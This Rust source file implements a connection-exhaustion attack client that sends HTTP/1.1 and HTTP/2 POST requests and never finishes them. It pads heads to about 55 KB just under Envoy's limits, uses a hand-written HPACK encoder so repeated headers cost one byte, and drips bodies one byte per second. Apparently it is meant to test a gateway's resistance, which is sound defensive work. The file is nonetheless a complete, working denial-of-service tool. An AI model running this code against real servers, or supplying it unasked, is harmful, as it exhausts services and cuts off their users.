//! Clients that send requests and leave them waiting, over HTTP/2 and HTTP/1.1.
//!
//! HTTP/2 makes a long head cheap: a client sends a field once, and then refers to it with one byte (RFC 7541 §6.1). A head
//! of 55 KB then costs about 60 bytes. This client writes its own frames, because HTTP/2 libraries do not send such heads.
//!
//! One file, although it is over 500 lines: its frames and header compression of HTTP/2 are useful only to this client.

use std::collections::BTreeMap;
use std::io;
use std::sync::{Arc, Mutex, MutexGuard};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep_until};

/// The header that makes a head long.
const PADDING: &str = "x-padding";
const HOST: &str = "gateway.example";
/// Pause between two bytes of a body that drips.
const DRIP: Duration = Duration::from_secs(1);

/// The protocol of a connection.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Version {
    /// The requests of a connection wait for each other.
    Http1,
    /// The requests of a connection wait at the same time.
    Http2,
}

/// The padding of a head to about 55 KB. It stays below Envoy's limits of 60 KiB and 100 fields.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Padding {
    /// One field of 2,500 bytes, repeated. HTTP/2 sends it as one byte each time.
    Repeated,
    /// One field of 560 bytes, repeated.
    Many,
    /// A cookie in crumbs of 2,500 bytes, which Envoy joins (RFC 9113 §8.2.3).
    Cookie,
    /// One field of 55,000 bytes, too long for the HPACK table.
    One,
    /// A query of 55,000 bytes.
    Query,
    /// Trailers of this length. The request is complete.
    Trailers,
}

/// A request that its client does not finish.
#[derive(Clone, Debug)]
pub struct Unfinished {
    path: String,
    headers: Vec<(String, String)>,
    trailers: Vec<(String, String)>,
    /// The content length in the head. A request of length 0 is complete.
    length: usize,
    /// The part of the body that is sent.
    sent: usize,
    drips: bool,
}

impl Unfinished {
    /// A POST request with a content length of `length` bytes. None of them is sent.
    pub fn post(path: &str, length: usize) -> Self {
        Self { path: path.to_owned(), headers: Vec::new(), trailers: Vec::new(), length, sent: 0, drips: false }
    }

    /// Adds a header.
    pub fn header(mut self, name: &str, value: &str) -> Self {
        self.headers.push((name.to_owned(), value.to_owned()));
        self
    }

    /// Sends this many bytes of the body.
    pub fn sending(self, sent: usize) -> Self {
        Self { sent, ..self }
    }

    /// Sends a byte of the body each second.
    pub fn dripping(self) -> Self {
        Self { drips: true, ..self }
    }

    /// Makes the head about 55 KB long.
    pub fn padded(mut self, padding: Padding) -> Self {
        let repeated = |name: &str, length: usize, count| vec![(name.to_owned(), "x".repeat(length - name.len())); count];
        match padding {
            Padding::Repeated => self.headers.extend(repeated(PADDING, 2_500, 22)),
            Padding::Many => self.headers.extend(repeated(PADDING, 600, 91)),
            Padding::Cookie => self.headers.extend(repeated("cookie", 2_500, 22)),
            Padding::One => self.headers.extend(repeated(PADDING, 55_000, 1)),
            Padding::Query => self.path = format!("{}?{}", self.path, "x".repeat(55_000)),
            Padding::Trailers => {
                self.trailers = repeated(PADDING, 2_500, 22);
                self.headers.extend(self.trailers.clone());
            }
        }
        self
    }

    fn is_whole(&self) -> bool {
        self.length == 0 && self.trailers.is_empty()
    }

    fn fields(&self) -> Vec<(String, String)> {
        let pseudo = [(":method", "POST"), (":scheme", "http"), (":authority", HOST), (":path", &self.path)];
        let mut fields: Vec<_> = pseudo.map(|(name, value)| (name.to_owned(), value.to_owned())).into();
        fields.extend(self.headers.clone());
        if self.trailers.is_empty() {
            fields.push(("content-length".to_owned(), self.length.to_string()));
        }
        fields
    }

    /// The head and the sent part of the body, in HTTP/1.1.
    fn http1(&self) -> Vec<u8> {
        let headers: String = self.headers.iter().map(|(name, value)| format!("{name}: {value}\r\n")).collect();
        let head = format!("POST {} HTTP/1.1\r\nhost: {HOST}\r\n{headers}content-length: {}\r\n\r\n", self.path, self.length);
        [head.into_bytes(), vec![b'x'; self.sent]].concat()
    }
}

/// Counts of sent requests and of their answers.
#[derive(Clone, Debug, Default)]
pub struct Tally {
    /// Requests that were sent.
    pub requests: usize,
    /// Bytes that were sent.
    pub bytes: usize,
    /// The answers by status. A request whose stream was reset or whose connection was closed counts as 0.
    pub answers: BTreeMap<u16, usize>,
}

impl Tally {
    /// Number of requests without an answer.
    pub fn waiting(&self) -> usize {
        self.requests.saturating_sub(self.answers.values().sum())
    }

    fn answered(&mut self, status: u16, count: usize) {
        if count > 0 {
            *self.answers.entry(status).or_default() += count;
        }
    }
}

type Shared = Arc<Mutex<Tally>>;

fn lock(tally: &Shared) -> MutexGuard<'_, Tally> {
    tally.lock().expect("no client panicked")
}

/// Connections with requests that wait. Dropping the value closes them.
#[derive(Debug)]
pub struct Attack {
    authority: String,
    version: Version,
    tally: Shared,
    connections: JoinSet<()>,
}

impl Attack {
    /// An attack on the server at `host:port`. It has no connections yet.
    pub fn new(authority: &str, version: Version) -> Self {
        Self { authority: authority.to_owned(), version, tally: Arc::default(), connections: JoinSet::new() }
    }

    /// Sends `each` requests on each of `connections` new connections, which take `requests` in turn. Returns when the
    /// server has read those of HTTP/2, or those of HTTP/1.1 were written.
    pub async fn wave(&mut self, requests: &[Unfinished], connections: usize, each: usize) {
        let mut opening = JoinSet::new();
        for request in requests.iter().cycle().take(connections) {
            let (authority, version, tally, request) =
                (self.authority.clone(), self.version, Arc::clone(&self.tally), request.clone());
            opening.spawn(async move {
                let stream = TcpStream::connect(&authority).await.expect("a connection");
                match version {
                    Version::Http1 => Connection::Http1(Http1::send(stream, tally, request, each).await),
                    Version::Http2 => Connection::Http2(Box::new(Http2::send(stream, tally, request, each).await)),
                }
            });
        }
        while let Some(connection) = opening.join_next().await {
            self.connections.spawn(connection.expect("a connection").hold());
        }
    }

    /// Closes all connections.
    pub async fn hang_up(&mut self) {
        self.connections.shutdown().await;
    }

    /// The counts until now.
    pub fn tally(&self) -> Tally {
        lock(&self.tally).clone()
    }
}

enum Connection {
    Http1(Http1),
    Http2(Box<Http2>),
}

impl Connection {
    /// Reads answers until the server closes the connection.
    async fn hold(self) {
        match self {
            Self::Http1(connection) => connection.hold().await,
            Self::Http2(connection) => connection.hold().await,
        }
    }
}

/// Waits until the next byte of a body is due. Never returns if the body does not drip.
async fn drip_due(next: Instant, drips: bool) {
    if drips { sleep_until(next).await } else { std::future::pending().await }
}

struct Http1 {
    stream: TcpStream,
    tally: Shared,
    request: Unfinished,
    waiting: usize,
}

impl Http1 {
    async fn send(mut stream: TcpStream, tally: Shared, request: Unfinished, count: usize) -> Self {
        let bytes = request.http1().repeat(count);
        {
            let mut tally = lock(&tally);
            tally.requests += count;
            tally.bytes += bytes.len();
        }
        // A server that has answered may stop reading. Its answer is read in any case.
        let _ = stream.write_all(&bytes).await;
        Self { stream, tally, request, waiting: count }
    }

    async fn hold(mut self) {
        let mut buffer = Vec::new();
        let mut next = Instant::now() + DRIP;
        loop {
            while let Some((status, length)) = http1_answer(&buffer) {
                buffer.drain(..length);
                self.waiting -= 1;
                lock(&self.tally).answered(status, 1);
            }
            let read = tokio::select! {
                read = self.stream.read_buf(&mut buffer) => read,
                () = drip_due(next, self.request.drips) => {
                    next += DRIP;
                    self.stream.write(b"x").await
                }
            };
            if !matches!(read, Ok(1..)) {
                lock(&self.tally).answered(0, self.waiting);
                return;
            }
        }
    }
}

/// The status and the length of the first answer in `bytes`, if it is complete.
fn http1_answer(bytes: &[u8]) -> Option<(u16, usize)> {
    let end = bytes.windows(4).position(|window| window == b"\r\n\r\n")? + 4;
    let head = std::str::from_utf8(&bytes[..end]).ok()?.to_ascii_lowercase();
    let status = head.get(9..12)?.parse().ok()?;
    let body = head.lines().find_map(|line| line.strip_prefix("content-length: ")?.parse().ok()).unwrap_or(0);
    (bytes.len() >= end + body).then_some((status, end + body))
}

/// Types of frames, flags and settings (RFC 9113 §6).
mod h2 {
    pub(super) const DATA: u8 = 0;
    pub(super) const HEADERS: u8 = 1;
    pub(super) const RST_STREAM: u8 = 3;
    pub(super) const SETTINGS: u8 = 4;
    pub(super) const PING: u8 = 6;
    pub(super) const WINDOW_UPDATE: u8 = 8;
    pub(super) const CONTINUATION: u8 = 9;
    pub(super) const ACK: u8 = 1;
    pub(super) const END_STREAM: u8 = 1;
    pub(super) const END_HEADERS: u8 = 4;
    pub(super) const HEADER_TABLE_SIZE: [u8; 2] = [0, 1];
    /// The longest payload of a frame that every server takes.
    pub(super) const MAX_FRAME_SIZE: usize = 16_384;
    pub(super) const DEFAULT_WINDOW: usize = 65_535;
    pub(super) const MAX_WINDOW: u32 = (1 << 31) - 1;
    pub(super) const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a short frame").to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// The header fields of one connection: a field that fits the HPACK table is sent once.
#[derive(Default)]
struct Encoder {
    table: Vec<(String, String)>,
    size: usize,
}

impl Encoder {
    /// The index of the newest entry; the static table is before it (RFC 7541 §2.3.3).
    const FIRST: usize = 62;
    /// The default size of a table, and the overhead of an entry (RFC 7541 §4.1).
    const MAX_SIZE: usize = 4_096;
    const OVERHEAD: usize = 32;

    fn block(&mut self, fields: &[(String, String)]) -> Vec<u8> {
        let mut block = Vec::new();
        for field in fields {
            if let Some(index) = self.table.iter().position(|known| known == field) {
                block.push(0x80 | u8::try_from(Self::FIRST + self.table.len() - 1 - index).expect("few entries"));
                continue;
            }
            let size = field.0.len() + field.1.len() + Self::OVERHEAD;
            if self.size + size <= Self::MAX_SIZE {
                self.size += size;
                self.table.push(field.clone());
                block.push(0x40);
            } else {
                block.push(0);
            }
            for text in [&field.0, &field.1] {
                block.extend(length(text.len()));
                block.extend(text.as_bytes());
            }
        }
        block
    }
}

/// The length of a text that is not compressed (RFC 7541 §5.1, with a prefix of 7 bits).
fn length(mut length: usize) -> Vec<u8> {
    const MAX: usize = 127;
    if length < MAX {
        return vec![length as u8];
    }
    length -= MAX;
    let mut encoded = vec![MAX as u8];
    while length >= 128 {
        encoded.push((length & MAX) as u8 | 0x80);
        length >>= 7;
    }
    encoded.push(length as u8);
    encoded
}

/// The status in a block of a server that keeps no HPACK table: `:status` comes first, indexed or as a literal.
fn status(mut block: &[u8]) -> Option<u16> {
    while let Some((0x20..0x40, rest)) = block.split_first() {
        block = rest;
    }
    let (&first, rest) = block.split_first()?;
    if first & 0x80 != 0 {
        // RFC 7541, Appendix A.
        return [200, 204, 206, 304, 400, 404, 500].get(usize::from(first & 0x7f).checked_sub(8)?).copied();
    }
    let (&length, text) = rest.split_first()?;
    let text = text.get(..usize::from(length & 0x7f))?;
    if length & 0x80 == 0 {
        return std::str::from_utf8(text).ok()?.parse().ok();
    }
    // RFC 7541, Appendix B: the digits 0 to 2 have codes of 5 bits, the others of 6.
    let mut bits = text.iter().fold(0_u32, |bits, byte| bits << 8 | u32::from(*byte)) << (32 - 8 * text.len());
    let mut number = 0;
    for _ in 0..3 {
        let (digit, length) = if bits >> 29 == 0 { (bits >> 27, 5) } else { ((bits >> 26).checked_sub(22)?, 6) };
        number = number * 10 + u16::try_from(digit).ok()?;
        bits <<= length;
    }
    Some(number)
}

struct Http2 {
    stream: TcpStream,
    tally: Shared,
    request: Unfinished,
    buffer: Vec<u8>,
    /// The streams whose requests wait.
    waiting: Vec<u32>,
    window: usize,
    has_settings: bool,
    /// Number of pings that were answered.
    pongs: usize,
    is_closed: bool,
}

impl Http2 {
    async fn send(stream: TcpStream, tally: Shared, request: Unfinished, count: usize) -> Self {
        let mut this = Self {
            stream,
            tally,
            request,
            buffer: Vec::new(),
            waiting: Vec::new(),
            window: h2::DEFAULT_WINDOW,
            has_settings: false,
            pongs: 0,
            is_closed: false,
        };
        // Asks the server to keep no HPACK table, and lets it send without limit.
        let settings = frame(h2::SETTINGS, 0, 0, &[&h2::HEADER_TABLE_SIZE[..], &[0; 4]].concat());
        let window = (h2::MAX_WINDOW - h2::DEFAULT_WINDOW as u32).to_be_bytes();
        this.write(&[h2::PREFACE, &settings, &frame(h2::WINDOW_UPDATE, 0, 0, &window)].concat()).await;
        this.read_until(|this| this.has_settings).await;
        this.send_requests(count).await;
        this.write(&frame(h2::PING, 0, 0, &[0; 8])).await;
        this.read_until(|this| this.pongs > 0).await;
        this
    }

    async fn send_requests(&mut self, count: usize) {
        let (mut encoder, mut heads) = (Encoder::default(), Vec::new());
        let fields = [self.request.fields(), self.request.trailers.clone()];
        let mut blocks = || fields.each_ref().map(|fields| encoder.block(fields));
        // The second request finds its fields in the table. The others are the same bytes.
        let (first, others) = (blocks(), blocks());
        for (stream, [head, trailers]) in
            (1..).step_by(2).zip(std::iter::once(&first).chain(std::iter::repeat(&others))).take(count)
        {
            self.waiting.push(stream);
            heads.extend(headers(head, stream, self.request.is_whole()));
            heads.extend(headers(trailers, stream, true));
        }
        lock(&self.tally).requests += count;
        self.write(&heads).await;
        if self.request.sent > 0 {
            for stream in self.waiting.clone() {
                self.send_body(stream, self.request.sent).await;
            }
        }
    }

    async fn send_body(&mut self, stream: u32, mut length: usize) {
        while length > 0 && !self.is_closed {
            let part = length.min(h2::MAX_FRAME_SIZE);
            self.read_until(|this| this.window >= part).await;
            if !self.waiting.contains(&stream) {
                return;
            }
            self.window -= part;
            length -= part;
            self.write(&frame(h2::DATA, 0, stream, &vec![b'x'; part])).await;
        }
    }

    async fn write(&mut self, bytes: &[u8]) {
        lock(&self.tally).bytes += bytes.len();
        self.is_closed |= self.stream.write_all(bytes).await.is_err();
    }

    async fn read_until(&mut self, is_enough: impl Fn(&Self) -> bool) {
        while !is_enough(self) && !self.is_closed {
            let read = self.stream.read_buf(&mut self.buffer).await;
            self.take(read).await;
        }
    }

    async fn hold(mut self) {
        let mut next = Instant::now() + DRIP;
        while !self.is_closed {
            tokio::select! {
                read = self.stream.read_buf(&mut self.buffer) => self.take(read).await,
                () = drip_due(next, self.request.drips) => {
                    next += DRIP;
                    let drips: Vec<u8> =
                        self.waiting.iter().flat_map(|stream| frame(h2::DATA, 0, *stream, b"x")).collect();
                    self.write(&drips).await;
                }
            }
        }
    }

    /// Handles received bytes, or the end of the connection.
    async fn take(&mut self, read: io::Result<usize>) {
        let mut acknowledgements = Vec::new();
        while let Some((kind, flags, stream, payload)) = self.next_frame() {
            match kind {
                h2::HEADERS => self.answered(stream, status(&payload).expect("a status")),
                h2::RST_STREAM => self.answered(stream, 0),
                h2::SETTINGS if flags & h2::ACK == 0 => {
                    self.has_settings = true;
                    acknowledgements.extend(frame(h2::SETTINGS, h2::ACK, 0, &[]));
                }
                h2::PING if flags & h2::ACK == 0 => acknowledgements.extend(frame(h2::PING, h2::ACK, 0, &payload)),
                h2::PING => self.pongs += 1,
                h2::WINDOW_UPDATE if stream == 0 => {
                    self.window += payload.iter().fold(0, |sum, byte| sum << 8 | usize::from(*byte));
                }
                _ => {}
            }
        }
        if !acknowledgements.is_empty() {
            self.write(&acknowledgements).await;
        }
        if !matches!(read, Ok(1..)) {
            self.is_closed = true;
            lock(&self.tally).answered(0, self.waiting.len());
            self.waiting.clear();
        }
    }

    fn answered(&mut self, stream: u32, status: u16) {
        if let Some(index) = self.waiting.iter().position(|waiting| *waiting == stream) {
            self.waiting.swap_remove(index);
            lock(&self.tally).answered(status, 1);
        }
    }

    fn next_frame(&mut self) -> Option<(u8, u8, u32, Vec<u8>)> {
        let head: [u8; 9] = self.buffer.get(..9)?.try_into().ok()?;
        let [a, b, c, kind, flags, ids @ ..] = head;
        let end = 9 + u32::from_be_bytes([0, a, b, c]) as usize;
        let payload = self.buffer.get(9..end)?.to_vec();
        self.buffer.drain(..end);
        Some((kind, flags, u32::from_be_bytes(ids), payload))
    }
}

/// The frames of a head or of trailers; none without fields.
fn headers(block: &[u8], stream: u32, is_last: bool) -> Vec<u8> {
    let parts = block.len().div_ceil(h2::MAX_FRAME_SIZE);
    let part = |(index, part): (usize, &[u8])| {
        let kind = if index == 0 { h2::HEADERS } else { h2::CONTINUATION };
        let end_stream = if is_last && index == 0 { h2::END_STREAM } else { 0 };
        let end_headers = if index + 1 == parts { h2::END_HEADERS } else { 0 };
        frame(kind, end_stream | end_headers, stream, part)
    };
    block.chunks(h2::MAX_FRAME_SIZE).enumerate().flat_map(part).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_repeated_field_costs_one_byte() {
        let request = Unfinished::post("/", 0).padded(Padding::Repeated);
        let mut encoder = Encoder::default();
        assert!(encoder.block(&request.fields()).len() > 2_500);
        assert_eq!(encoder.block(&request.fields()).len(), request.fields().len());
    }

    #[test]
    fn statuses_are_decoded() {
        for (block, expected) in [
            (&[0x88][..], 200),
            (&[0x20, 0x8e], 500),
            (&[0x48, 3, b'5', b'0', b'3'], 503),
            // 503 is 011011 00000 011001.
            (&[0x48, 0x83, 0b0110_1100, 0b0000_1100, 0b1111_1111], 503),
            // 401 is 011010 00000 00001.
            (&[0x08, 0x82, 0b0110_1000, 0b0000_0001], 401),
        ] {
            assert_eq!(status(block), Some(expected), "{block:x?}");
        }
    }
}
